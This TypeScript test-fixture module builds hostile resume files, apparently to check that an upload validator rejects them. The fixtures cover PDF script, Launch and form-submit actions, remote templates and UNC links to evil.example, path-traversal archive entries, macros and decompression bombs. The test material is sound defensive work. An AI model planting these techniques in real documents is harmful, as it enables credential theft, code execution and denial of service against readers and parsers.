import { Buffer } from 'node:buffer'
import type { ResumeFinding } from '@lanternfield/contract/answer-words.ts'
import { compoundFile, doc } from './doc.ts'
import { docx, docxParts, relationship, relationships, workbook } from './docx.ts'
import type { ResumeExample } from './harmless-resumes.ts'
import {
  type PackedList,
  packedPdfObjects,
  packedPdfStream,
  pdf,
  pdfOfPackedObjects,
  pdfOfSize,
  pdfStream,
} from './pdf.ts'
import { type ZipPart, zip } from './zip.ts'

/** A resume that must not be kept, and why. */
export type HostileResume = ResumeExample & { readonly finding: ResumeFinding }

const format = 'format'
const broken = 'broken'
const locked = 'protected'
const macros = 'macros'
const active = 'active'
const embedded = 'embedded'
const remote = 'remote'
const oversized = 'oversized'

const as = (fileName: string) => (name: string, finding: ResumeFinding, content: () => Buffer) => ({
  name: `${fileName}: ${name}`,
  fileName,
  finding,
  content,
})
const asPdf = as('mira.pdf')
const asDocx = as('mira.docx')
const asDoc = as('mira.doc')

/** The first bytes of a program of Windows, as far as its second signature. */
const PROGRAM = Buffer.concat([
  Buffer.from('MZ'),
  Buffer.alloc(58),
  Buffer.from([64, 0, 0, 0]),
  Buffer.from('PE\0\0\x64\x86'),
  Buffer.alloc(500),
])
const ELF = Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01'), Buffer.alloc(500)])
const HTML = '<html><body><script>alert(1)</script></body></html>'
const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
const ADDRESS = '<< /S /URI /URI (https://evil.example/x) >>'
const LINK_TO = (file: string) =>
  `/Annots [<< /Subtype /Link /A << /S /GoToR /F ${file} /D [0 /Fit] >> >>]`
const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml'

const text = (content: string) => () => Buffer.from(content)
const withPart = (part: ZipPart) => () => docx({ parts: [part] })
const withTarget = (kind: string, target: string) => () =>
  docx({ relationships: relationship(kind, target, 'External') })
const withSettings = (target: string) =>
  withPart({
    name: 'word/_rels/settings.xml.rels',
    content: relationships(relationship('attachedTemplate', target, 'External')),
  })
const instead = (name: string, content: (before: string) => string | Uint8Array) => () =>
  zip(
    docxParts().map((part) =>
      part.name === name ? { ...part, content: content(String(part.content)) } : part,
    ),
  )

const asPackedScript = (name: string, finding: ResumeFinding, list: PackedList) =>
  asPdf(`a script in packed objects ${name}`, finding, () =>
    pdfOfPackedObjects('/OpenAction 8 0 R', ['[0 0 612 792]', 'null', SCRIPT], list),
  )
const flat = (pairs: readonly (readonly [number, number])[]) => pairs.flat().join(' ')

/** Scripts that readers run, in lists of objects that are not written as they should be. */
export const packedScripts: readonly HostileResume[] = [
  asPackedScript('whose list is as it should be', active, {}),
  asPackedScript('whose list is said to be empty', broken, { first: 0 }),
  asPackedScript('whose list is said to end in its middle', broken, { first: 3 }),
  asPackedScript('with a number of eleven digits', broken, {
    write: (pairs) => `0000000000${flat(pairs)}`,
  }),
  asPackedScript('with a comment that holds a number', active, {
    write: (pairs) => `% 1\n${flat(pairs)}`,
  }),
  asPackedScript('with a comment between the numbers', active, {
    write: ([[number, offset] = [0, 0], ...pairs]) => `${number} % 1\r${offset} ${flat(pairs)}`,
  }),
  asPackedScript('with a fraction', broken, {
    write: (pairs) => flat(pairs).replace('6 ', '6.0 '),
  }),
  asPackedScript('with a sign', broken, { write: (pairs) => `+${flat(pairs)}` }),
]
/** The same for lists with which no reader that we know finds the script. */
const packedScriptsOfOtherReaders: readonly HostileResume[] = [
  asPackedScript('with a name in the list', broken, { write: (pairs) => `/A1 ${flat(pairs)}` }),
  asPackedScript('with a text in the list', broken, { write: (pairs) => `(1) ${flat(pairs)}` }),
  asPackedScript('of which fewer are announced', broken, { count: 1 }),
  asPackedScript('of which more are announced', broken, { count: 4 }),
]

const hostilePdfs: readonly HostileResume[] = [
  ...packedScripts,
  ...packedScriptsOfOtherReaders,
  asPdf('one byte', format, text('x')),
  asPdf('plain text', format, text('My resume')),
  asPdf('HTML', format, text(HTML)),
  asPdf('a program', format, () => PROGRAM),
  asPdf('a program that begins a PDF', format, () => Buffer.concat([PROGRAM, pdf()])),
  asPdf('HTML that begins a PDF', format, () => Buffer.concat([Buffer.from(HTML), pdf()])),
  asPdf('a DOCX', format, () => docx()),
  asPdf('a picture', format, () => Buffer.from('\x89PNG\r\n\x1a\n\0\0\0\rIHDR', 'latin1')),
  asPdf('a ZIP behind a PDF', format, () =>
    Buffer.concat([pdf(), zip([{ name: 'a', content: 'b' }])]),
  ),
  asPdf('a ZIP whose comment ends as a PDF does', format, () =>
    Buffer.concat([pdf(), zip([{ name: 'a', content: 'b' }], '\n%%EOF\n')]),
  ),
  asPdf('a page of HTML behind a PDF', broken, () => Buffer.concat([pdf(), Buffer.from(HTML)])),
  asPdf('only the beginning of a PDF', broken, text('%PDF-1.7\n')),
  asPdf('a PDF that was cut', broken, () => pdf().subarray(0, 500)),
  asPdf('brackets without end', broken, () =>
    Buffer.from(`%PDF-1.4\n1 0 obj\n${'['.repeat(1_000_000)}\n%%EOF`),
  ),
  asPdf('objects within objects without end', broken, () =>
    Buffer.from(`%PDF-1.4\n${'1 0 obj('.repeat(200_000)}\n%%EOF`),
  ),
  asPdf('a password', locked, () =>
    pdf('Mira', {
      objects: ['<< /Filter /Standard /V 2 /R 3 /O (x) /U (y) /P -4 >>'],
      trailer: '/Encrypt 6 0 R',
    }),
  ),
  asPdf('a script when it opens', active, () => pdf('Mira', { catalog: `/OpenAction ${SCRIPT}` })),
  asPdf('a script in an object of its own', active, () =>
    pdf('Mira', { catalog: '/OpenAction 6 0 R', objects: [SCRIPT] }),
  ),
  asPdf('a script when a page is shown', active, () =>
    pdf('Mira', { page: `/AA << /O ${SCRIPT} >>` }),
  ),
  asPdf('a script under an escaped name', active, () =>
    pdf('Mira', { catalog: '/OpenAction << /S /J#61v#61Script /#4a#53 (x) >>' }),
  ),
  asPdf('a script in packed objects', active, () =>
    pdf('Mira', { catalog: '/OpenAction 50 0 R', objects: [packedPdfObjects([SCRIPT])] }),
  ),
  asPdf('a script in packed objects whose sum is wrong', broken, () => {
    const file = pdf('Mira', { objects: [packedPdfObjects([SCRIPT])] })
    const end = file.lastIndexOf('\nendstream')
    file.writeUInt32BE(0, end - 4)
    return file
  }),
  asPdf('packed objects in a packing of their own', broken, () =>
    pdf('Mira', {
      objects: [
        pdfStream('/Type /ObjStm /N 1 /First 5 /Filter [/ASCIIHexDecode /FlateDecode]', '00'),
      ],
    }),
  ),
  asPdf('packed objects that inflate without end', oversized, () =>
    pdf('Mira', {
      objects: [packedPdfStream('/Type /ObjStm /N 1 /First 5', ' '.repeat(30_000_000))],
    }),
  ),
  asPdf('a script within what seems to be a picture', active, () =>
    pdf('Mira', {
      catalog: '/OpenAction 9 0 R',
      objects: [pdfStream('', `9 0 obj ${SCRIPT} endobj`)],
    }),
  ),
  asPdf('a script behind a comment', active, () =>
    pdf('Mira', { objects: ['<< /S % (\n /JavaScript % )\n /JS (x) >>'] }),
  ),
  asPdf('a key twice, once with a script', active, () =>
    pdf('Mira', { catalog: '/OpenAction << /S /GoTo /S /JavaScript >>' }),
  ),
  asPdf('a name of a script apart from its action', active, () =>
    pdf('Mira', { catalog: '/OpenAction << /S 6 0 R >>', objects: ['/JavaScript'] }),
  ),
  asPdf('a script behind an end that is none', active, () =>
    pdf('Mira', { objects: [`<< /A endobj /B stream /OpenAction ${SCRIPT} >>`] }),
  ),
  asPdf('a list of a million values', broken, () =>
    pdf('Mira', { objects: [packedPdfObjects([`[${'/A'.repeat(1_000_000)}]`])] }),
  ),
  asPdf('packed objects that begin in two places', broken, () =>
    pdf('Mira', { objects: [packedPdfStream('/N 1 /First 5 /First 500', '1 0  null')] }),
  ),
  asPdf('a program to be started', active, () =>
    pdf('Mira', { catalog: '/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>' }),
  ),
  asPdf('an address to be asked for when it opens', active, () =>
    pdf('Mira', { catalog: `/OpenAction ${ADDRESS}` }),
  ),
  asPdf('a share to be asked for when it opens', active, () =>
    pdf('Mira', { catalog: '/OpenAction << /S /URI /URI (file://evil.example/x) >>' }),
  ),
  asPdf('an address in an object of its own', active, () =>
    pdf('Mira', { catalog: '/OpenAction 6 0 R', objects: [ADDRESS] }),
  ),
  asPdf('an address in packed objects', active, () =>
    pdfOfPackedObjects('/OpenAction 7 0 R', ['null', ADDRESS]),
  ),
  asPdf('an address after a harmless action', active, () =>
    pdf('Mira', {
      catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [7 0 R] >>',
      objects: ['null', '<< /S /GoTo /D [3 0 R /Fit] /Next 8 0 R >>', ADDRESS],
    }),
  ),
  asPdf('an address in an action whose name stands elsewhere', active, () =>
    pdf('Mira', {
      catalog: '/OpenAction << /S 6 0 R /URI (https://evil.example) >>',
      objects: ['/URI'],
    }),
  ),
  asPdf('an address when a page is shown', active, () =>
    pdf('Mira', { page: '/AA 6 0 R', objects: ['<< /O 7 0 R >>', ADDRESS] }),
  ),
  asPdf('an address in an object whose number stands behind a comment', active, () =>
    pdf('Mira', {
      catalog: '/OpenAction 20 0 R',
      objects: [`null endobj 20 % 9\n0 obj ${ADDRESS}`],
    }),
  ),
  asPdf('an address under a reference with a comment', active, () =>
    pdf('Mira', { catalog: '/OpenAction 6 %\n 0 % 7 0\n R', objects: [ADDRESS] }),
  ),
  asPdf('a form to be sent when it opens', active, () =>
    pdf('Mira', { catalog: '/OpenAction << /S /SubmitForm /F (https://evil.example) >>' }),
  ),
  asPdf('another file to be opened at once', active, () =>
    pdf('Mira', { catalog: '/OpenAction << /S /GoToR /F (cover.pdf) /D [0 /Fit] >>' }),
  ),
  asPdf('a command of the reader that is none of a page', active, () =>
    pdf('Mira', { catalog: '/OpenAction << /S /Named /N /SaveAs >>' }),
  ),
  asPdf('actions after one another without end', broken, () =>
    pdf('Mira', {
      catalog: '/OpenAction 6 0 R',
      objects: Array.from({ length: 100 }, (_, index) => `<< /S /GoTo /Next ${index + 7} 0 R >>`),
    }),
  ),
  asPdf('a film', active, () =>
    pdf('Mira', { page: '/Annots [<< /Subtype /Movie /Movie << /F (film.avi) >> >>]' }),
  ),
  asPdf('a film of an address', active, () =>
    pdf('Mira', { page: '/Annots [<< /Subtype /Screen /A << /S /Rendition /OP 0 >> >>]' }),
  ),
  asPdf('a sound', active, () =>
    pdf('Mira', { page: '/Annots [<< /Subtype /Link /A << /S /Sound /Sound 6 0 R >> >>]' }),
  ),
  asPdf('a script of a scene', active, () =>
    pdf('Mira', { objects: [pdfStream('/Type /3D /Subtype /U3D /OnInstantiate 7 0 R', 'x')] }),
  ),
  asPdf('a form of XML with a script', active, () =>
    pdf('Mira', {
      catalog: '/AcroForm << /XFA 6 0 R >>',
      objects: [packedPdfStream('', '<template><script>app.alert(1)</script></template>')],
    }),
  ),
  asPdf('a film that runs', active, () =>
    pdf('Mira', { page: '/Annots [<< /Subtype /RichMedia >>]' }),
  ),
  asPdf('a program inside', embedded, () =>
    pdf('Mira', {
      objects: [
        '<< /Type /Filespec /F (mira.exe) /EF << /F 7 0 R >> >>',
        pdfStream('/Type /EmbeddedFile', PROGRAM),
      ],
    }),
  ),
  asPdf('a program inside under the name of a resume of Europass', embedded, () =>
    pdf('Mira', {
      objects: ['<< /F (mira.xml) /EF << /F 7 0 R >> >>', pdfStream('', PROGRAM)],
    }),
  ),
  asPdf('a resume of Europass that a browser would run', embedded, () =>
    pdf('Mira', {
      objects: [
        '<< /F (mira.xml) /EF << /F 7 0 R >> >>',
        pdfStream('', '<europass xmlns:h="http://www.w3.org/1999/xhtml"><h:script/></europass>'),
      ],
    }),
  ),
  asPdf('a page on a share of Windows', remote, () =>
    pdf('Mira', { page: LINK_TO('(\\\\\\\\evil.example\\\\x)') }),
  ),
  asPdf('a page on a share, its path in an object of its own', remote, () =>
    pdf('Mira', { page: LINK_TO('6 0 R'), objects: ['(\\\\\\\\evil.example\\\\x)'] }),
  ),
  asPdf('a page on a share, its path in packed objects', remote, () =>
    pdfOfPackedObjects(LINK_TO('6 0 R'), ['(//evil.example/x)']),
  ),
  asPdf('a page on a share, as an address', remote, () =>
    pdf('Mira', { page: LINK_TO('<< /UF (file://evil.example/x.pdf) >>') }),
  ),
  asPdf('a page on a share, in UTF-16', remote, () =>
    pdf('Mira', { page: LINK_TO('<< /UF <FEFF005C005C006500760069006C> >>') }),
  ),
  asPdf('a stream whose data lies elsewhere', remote, () =>
    pdf('Mira', { objects: [pdfStream('/F (data.bin)', '')] }),
  ),
  asPdf('a stream whose data lies at an address', remote, () =>
    pdf('Mira', {
      objects: [pdfStream('/F 7 0 R', ''), '<< /FS /URL /F (https://evil.example/x) >>'],
    }),
  ),
  asPdf('a stream with a packing for data from elsewhere', remote, () =>
    pdf('Mira', { objects: [pdfStream('/FFilter /FlateDecode', '')] }),
  ),
]

const hostileDocx: readonly HostileResume[] = [
  asDocx('plain text', format, text('My resume')),
  asDocx('a PDF', format, () => pdf()),
  asDocx('a program', format, () => ELF),
  asDocx('an archive of anything', format, () => zip([{ name: 'mira.txt', content: 'x' }])),
  asDocx('a workbook', format, () => workbook()),
  asDocx('a template', format, () => docx({ mainType: `${WORD}.template.main+xml` })),
  asDocx('a document whose text is missing', format, () =>
    zip(docxParts().filter(({ name }) => name !== 'word/document.xml')),
  ),
  asDocx('a PDF at its beginning', format, () =>
    zip([{ name: 'a.xml', content: pdf(), stored: true }, ...docxParts()]),
  ),
  asDocx('a program before the archive', format, () => Buffer.concat([PROGRAM, docx()])),
  asDocx('the archive of another file before it', broken, () =>
    Buffer.concat([workbook(), docx()]),
  ),
  asDocx('cut off', broken, () => docx().subarray(0, 700)),
  asDocx('bytes behind its end', broken, () => Buffer.concat([docx(), Buffer.from('x')])),
  asDocx('a password on a file of it', locked, () =>
    zip([...docxParts(), { name: 'word/a.xml', content: 'x', encrypted: true }]),
  ),
  asDocx('a password as Word sets it', locked, () =>
    compoundFile({ '/EncryptionInfo': 'x'.repeat(200), '/EncryptedPackage': 'y'.repeat(5000) }),
  ),
  asDocx('a DOC', format, () => doc()),
  asDocx('a file outside the folder', format, withPart({ name: '../../evil.xml', content: 'x' })),
  asDocx(
    'a file at the root of the disk',
    format,
    withPart({ name: '/etc/cron.d/x', content: 'x' }),
  ),
  asDocx('a file on another disk', format, withPart({ name: 'C:\\x.xml', content: 'x' })),
  asDocx('two files of one name', broken, withPart({ name: 'WORD/document.xml', content: '<x/>' })),
  asDocx(
    'a file with two names',
    broken,
    withPart({ name: 'word/a.xml', localName: 'word/b.xml', content: 'x' }),
  ),
  asDocx(
    'declares more than it may unpack to',
    oversized,
    withPart({
      name: 'word/a.xml',
      content: 'x',
      declaredBytes: 0xf0000000,
    }),
  ),
  asDocx(
    'unpacks to more than it declares',
    oversized,
    withPart({
      name: 'word/a.xml',
      content: Buffer.alloc(30_000_000),
      declaredBytes: 1000,
    }),
  ),
  asDocx(
    'unpacks to a hundred times as much',
    oversized,
    withPart({
      name: 'word/a.xml',
      content: Buffer.alloc(40_000_000),
    }),
  ),
  asDocx('many files that share their bytes', oversized, () =>
    zip([
      ...docxParts(),
      { name: 'word/a.xml', content: Buffer.alloc(100_000) },
      ...Array.from({ length: 50 }, (_, index) => ({
        name: `word/a${index}.xml`,
        content: Buffer.alloc(100_000),
        dataOf: 4,
      })),
    ]),
  ),
  asDocx('more files than a document has', oversized, () =>
    docx({
      parts: Array.from({ length: 1200 }, (_, index) => ({
        name: `word/${index}.xml`,
        content: '',
      })),
    }),
  ),
  asDocx(
    'a list of relationships of many megabytes',
    oversized,
    withPart({
      name: 'word/_rels/a.xml.rels',
      content: relationships(' '.repeat(3_000_000)),
    }),
  ),
  asDocx('macros', macros, withPart({ name: 'word/vbaProject.bin', content: 'x' })),
  asDocx('macros in capitals', macros, withPart({ name: 'WORD/VBAPROJECT.BIN', content: 'x' })),
  asDocx('macros under another name', macros, () =>
    docx({ relationships: relationship('vbaProject', 'theme.bin') }),
  ),
  asDocx('macros by their type', macros, () =>
    docx({
      types:
        '<Override PartName="/word/a.dat" ContentType="application/vnd.ms-office.vbaProject"/>',
      parts: [{ name: 'word/a.dat', content: 'x' }],
    }),
  ),
  asDocx('a document for macros, renamed', macros, () =>
    docx({ mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
  ),
  asDocx(
    'macros in the workbook of a chart',
    macros,
    withPart({
      name: 'word/embeddings/chart.xlsx',
      content: workbook([{ name: 'xl/vbaProject.bin', content: 'x' }]),
      stored: true,
    }),
  ),
  asDocx('a control', active, withPart({ name: 'word/activeX/activeX1.xml', content: '<x/>' })),
  asDocx('a control under another name', active, () =>
    docx({ relationships: relationship('control', 'a.xml') }),
  ),
  asDocx(
    'an object of another program',
    embedded,
    withPart({
      name: 'word/embeddings/oleObject1.bin',
      content: 'x',
    }),
  ),
  asDocx(
    'an object under another name',
    embedded,
    withPart({
      name: 'word/media/image1.png',
      content: compoundFile({ '/\u0001Ole10Native': 'x' }),
    }),
  ),
  asDocx(
    'a program as a picture',
    embedded,
    withPart({ name: 'word/media/image1.png', content: PROGRAM }),
  ),
  asDocx(
    'a script of Windows',
    embedded,
    withPart({ name: 'word/embeddings/a.vbs', content: 'x' }),
  ),
  asDocx(
    'RTF to be taken in',
    embedded,
    withPart({ name: 'word/chunk.dat', content: '{\\rtf1 x}' }),
  ),
  asDocx(
    'an archive inside',
    embedded,
    withPart({
      name: 'word/embeddings/a.xlsx',
      content: zip([{ name: 'a.txt', content: 'x' }]),
    }),
  ),
  asDocx(
    'an archive within the workbook of a chart',
    embedded,
    withPart({
      name: 'word/embeddings/a.xlsx',
      content: workbook([{ name: 'xl/a.xlsx', content: workbook(), stored: true }]),
      stored: true,
    }),
  ),
  asDocx('a template on a server', remote, withSettings('https://evil.example/x.dotm')),
  asDocx('a template on a share', remote, withSettings('\\\\evil.example\\x\\x.dotm')),
  asDocx(
    'a template on a share, as an address',
    remote,
    withSettings('file://evil.example/x.dotm'),
  ),
  asDocx(
    'a template on a share, with slashes',
    remote,
    withSettings('file:///%5C%5Cevil.example/x.dotm'),
  ),
  asDocx(
    'a template on a server, in letters of XML',
    remote,
    withSettings('&#x68;ttps://evil.example/x'),
  ),
  asDocx('a template on a server that claims to be inside', remote, () =>
    docx({ relationships: relationship('attachedTemplate', 'https://evil.example/x.dotm') }),
  ),
  asDocx(
    'an object on a server',
    remote,
    withTarget('oleObject', 'mhtml:https://evil.example/x!x'),
  ),
  asDocx('a page of HTML to be taken in', embedded, () =>
    docx({
      types: '<Default Extension="html" ContentType="text/html"/>',
      relationships: relationship('aFChunk', 'chunk.html'),
      parts: [{ name: 'word/chunk.html', content: '<img src="file://evil.example/x.png">' }],
    }),
  ),
  asDocx(
    'a page of a server to be taken in',
    embedded,
    withTarget('aFChunk', 'https://evil.example/'),
  ),
  asDocx('a frame of a server', remote, withTarget('frame', 'https://evil.example/')),
  asDocx('a picture on a share', remote, withTarget('image', 'file://evil.example/x.png')),
  asDocx('a template on a server, in UTF-16', remote, () =>
    docx({
      parts: [
        {
          name: 'word/_rels/settings.xml.rels',
          content: Buffer.from(
            `\uFEFF${relationships(relationship('attachedTemplate', 'https://evil.example/x', 'External')).replace('UTF-8', 'UTF-16')}`,
            'utf16le',
          ),
        },
      ],
    }),
  ),
  asDocx(
    'a list in an encoding that hides it',
    broken,
    instead('word/_rels/document.xml.rels', (before) => before.replace('UTF-8', 'UTF-7')),
  ),
  asDocx(
    'a list with a document type',
    broken,
    instead('word/_rels/document.xml.rels', (before) =>
      before.replace(
        '<Relationships',
        '<!DOCTYPE x [<!ENTITY a "https://evil.example">]><Relationships',
      ),
    ),
  ),
]

const hostileDocs: readonly HostileResume[] = [
  asDoc('plain text', format, text('My resume')),
  asDoc('HTML', format, text(HTML)),
  asDoc('RTF', format, text('{\\rtf1\\ansi Mira}')),
  asDoc('a DOCX', format, () => docx()),
  asDoc('a program', format, () => PROGRAM),
  asDoc('a workbook of Excel', format, () => compoundFile({ '/Workbook': 'x'.repeat(5000) })),
  asDoc('an installer', format, () => compoundFile({ '/\u4840\u3f3f': 'x'.repeat(5000) })),
  asDoc('a ZIP behind it', format, () =>
    Buffer.concat([doc(), zip([{ name: 'a', content: 'b' }])]),
  ),
  asDoc('a ZIP with a comment behind it', format, () =>
    Buffer.concat([doc(), zip([{ name: 'a', content: 'b' }], 'PK\x05\x06 and more')]),
  ),
  asDoc('only its first bytes', broken, () => doc().subarray(0, 300)),
  asDoc('cut off', broken, () => doc().subarray(0, 4000)),
  asDoc('another version than there are', broken, () => doc({ version: 0x1234 })),
  asDoc('a part of it missing', broken, () => doc({ without: ['/1Table'] })),
  asDoc('two documents in one', broken, () =>
    doc({ streams: { '/Other/WordDocument': 'x'.repeat(5000) } }),
  ),
  asDoc('a directory that bites its tail', broken, () => {
    const file = doc()
    const directory = file.readUInt32LE(48)
    const fat = (file.readUInt32LE(76) + 1) * 512
    file.writeUInt32LE(directory, fat + directory * 4)
    return file
  }),
  asDoc('chains that run into one another over 2 MB', broken, () => chains(4000)),
  asDoc('a table that names its sectors again and again', broken, () => {
    const file = Buffer.alloc(2_000_000)
    doc().copy(file)
    // From sector 100 on, each sector is the list that goes on in the next.
    file.writeUInt32LE(100, 68)
    for (let sector = 100; sector < 3900; sector += 1)
      file.writeUInt32LE(sector + 1, (sector + 2) * 512 - 4)
    return file
  }),
  asDoc('a password', locked, () => doc({ flags: 0x0100 })),
  asDoc('macros', macros, () =>
    doc({ streams: { '/Macros/VBA/dir': 'x', '/Macros/PROJECT': 'y' } }),
  ),
  asDoc('macros at its root', macros, () => doc({ streams: { '/_VBA_PROJECT_CUR/VBA/dir': 'x' } })),
  asDoc('a template of Word 95, which may hold macros', macros, () =>
    doc({ version: 0xa5dc, flags: 0x0001 }),
  ),
  asDoc('a control', active, () =>
    doc({ streams: { '/ObjectPool/_1234567890/\u0003OCXNAME': 'x' } }),
  ),
  asDoc('a program as an object', embedded, () =>
    doc({ streams: { '/ObjectPool/_1234567890/\u0001Ole10Native': PROGRAM } }),
  ),
  asDoc('an equation, which old Words run', embedded, () =>
    doc({ streams: { '/ObjectPool/_1234567890/Equation Native': 'x' } }),
  ),
  asDoc('a template on a server', remote, () => doc({ template: 'https://evil.example/x.dot' })),
  asDoc('a template on a share', remote, () => doc({ template: '\\\\evil.example\\x.dot' })),
]

/** Each sector follows the one before it: whoever notes every chain notes half of n² sectors. */
function chains(sectors: number): Buffer {
  const file = Buffer.alloc(512 * (sectors + 1))
  doc().copy(file, 0, 0, 76)
  file.writeUInt32LE(40, 48)
  file.writeInt32LE(-2, 60)
  file.writeInt32LE(-2, 68)
  for (let index = 0; index < 109; index += 1)
    file.writeInt32LE(index < 32 ? index : -1, 76 + 4 * index)
  for (let index = 0; index < sectors; index += 1) file.writeInt32LE(index - 1, 512 + 4 * index)
  return file
}

export const hostileResumes: readonly HostileResume[] = [
  ...hostilePdfs,
  ...hostileDocx,
  ...hostileDocs,
]

const tiresomePdf = (name: string, content: () => Buffer) => ({
  name: `a PDF with ${name}`,
  fileName: 'mira.pdf',
  content,
})
const tiresomeDocx = (name: string, content: () => Buffer) => ({
  name: `a DOCX with ${name}`,
  fileName: 'mira.docx',
  content,
})
/** A small stream that unpacks to nearly all that may be unpacked. */
const packed15MB = (first: number, list: string) =>
  pdf('Mira', {
    objects: [packedPdfStream(`/Type /ObjStm /N 1 /First ${first}`, list.padEnd(15_000_000))],
  })
/** A PDF with a last line of its own. */
const withLine = (line: string) =>
  Buffer.from(pdf().toString('latin1').replace('%%EOF', `${line}\n%%EOF`), 'latin1')
/** A small archive that unpacks to 15 MB. */
const smallBomb = () =>
  zip([
    { name: '[Content_Types].xml', content: '<Types/>' },
    { name: 'a.xml', content: Buffer.alloc(15_000_000) },
  ])

/** A harmless PDF of 15 KB whose inspection costs more processor time than any other we know of. */
export function costlyPdf(): Buffer {
  return pdf('Mira', {
    objects: [packedPdfObjects(Array.from({ length: 150 }, () => `[${'/Ab'.repeat(30_000)}]`))],
  })
}

/** Made to take long. Whatever is said of them has to be said soon. */
export const tiresomeResumes: readonly ResumeExample[] = [
  tiresomePdf('packed objects behind the end of their stream', () =>
    packed15MB(15_000_000, '1 0 2 9999999999 '.repeat(880_000)),
  ),
  tiresomePdf('packed objects far before their stream', () => packed15MB(-1_000_000_000, '1 0 ')),
  tiresomePdf('packed objects in no place', () =>
    pdf('Mira', { objects: [packedPdfStream('/Type /ObjStm /N 1 /First Infinity', '1 0 ')] }),
  ),
  tiresomePdf('millions of packed objects in one place', () =>
    packed15MB(14_999_000, '1 0 '.repeat(3_700_000)),
  ),
  tiresomePdf('a name of millions of escapes', () =>
    pdf('Mira', { objects: [packedPdfObjects([`/${'#41'.repeat(5_000_000)}`])] }),
  ),
  tiresomePdf('a text of 15 MB', () =>
    pdf('Mira', { objects: [packedPdfObjects([`(${'a'.repeat(15_000_000)})`])] }),
  ),
  tiresomePdf('millions of names in lists', costlyPdf),
  tiresomePdf('what looks like objects in one line of comments', () =>
    withLine('%obj 1'.repeat(330_000)),
  ),
  tiresomePdf('what looks like streams in one line of comments', () =>
    withLine('%obj<<>>'.repeat(250_000)),
  ),
  tiresomePdf('thousands of packed streams', () =>
    pdf('Mira', { objects: Array.from({ length: 13_000 }, () => packedPdfObjects(['null'])) }),
  ),
  tiresomePdf('thousands of attachments in thousands of streams', () =>
    pdf('Mira', {
      objects: [
        pdfStream('', '<europass/>'),
        ...Array.from({ length: 15_000 }, () => '<< /F (a.xml) /EF << /F 6 0 R >> >>'),
        ...Array.from({ length: 15_000 }, () => '<< >> stream'),
      ],
    }),
  ),
  tiresomePdf('attachments that each unpack to 15 MB', () => {
    const attachment = packedPdfStream(
      '/Type /EmbeddedFile',
      '<a xmlns="europass">'.padEnd(15_000_000),
    )
    return pdf('Mira', { objects: Array.from({ length: 120 }, () => attachment) })
  }),
  tiresomeDocx('workbooks that each unpack to 15 MB', () => {
    const content = smallBomb()
    return docx({
      parts: Array.from({ length: 110 }, (_, index) => ({
        name: `word/embeddings/${index}.xlsx`,
        content,
        stored: true,
      })),
    })
  }),
  tiresomeDocx('lists of relationships that are nothing but beginnings', () =>
    docx({
      parts: Array.from({ length: 7 }, (_, index) => ({
        name: `word/_rels/${index}.rels`,
        content: `<a>${'<'.repeat(1_000_000)}`,
      })),
    }),
  ),
  tiresomeDocx('tens of thousands of files that are not listed', () =>
    Buffer.alloc(
      1_860_000,
      Buffer.from(`PK\x03\x04\x14\0\x08${'\0'.repeat(19)}\x01\0\0\0a`, 'latin1'),
    ),
  ),
]

/** Large ones, for measuring. */
export const slowResumes: readonly ResumeExample[] = [
  {
    name: 'a PDF of 2 MB with a picture',
    fileName: 'mira.pdf',
    content: () => pdfOfSize(2_000_000, (index) => (index * 7919) % 251),
  },
  {
    name: 'a PDF of 2 MB of objects',
    fileName: 'mira.pdf',
    content: () =>
      pdf('Mira', {
        objects: Array.from(
          { length: 21_000 },
          (_, index) => `<< /Type /StructElem /S /P /P 1 0 R /K ${index} /A [1 2 3] >>`,
        ),
      }),
  },
  {
    name: 'a PDF that unpacks to 8 MB of objects',
    fileName: 'mira.pdf',
    content: () =>
      pdf('Mira', {
        objects: [
          packedPdfObjects(
            Array.from(
              { length: 100_000 },
              (_, index) => `<< /Type /StructElem /S /P /P ${index} 0 R /K [${index}] >>`,
            ),
            100,
          ),
        ],
      }),
  },
  {
    name: 'a DOCX that unpacks to 60 MB',
    fileName: 'mira.docx',
    content: () =>
      docx({
        parts: [
          { name: 'word/media/a.bmp', content: Buffer.alloc(58_000_000, 'abcdefgh') },
          {
            name: 'word/media/b.bmp',
            content: Uint8Array.from(
              { length: 1_700_000 },
              (_, index) => (index * index * 31) >> 3,
            ),
            stored: true,
          },
        ],
      }),
  },
]
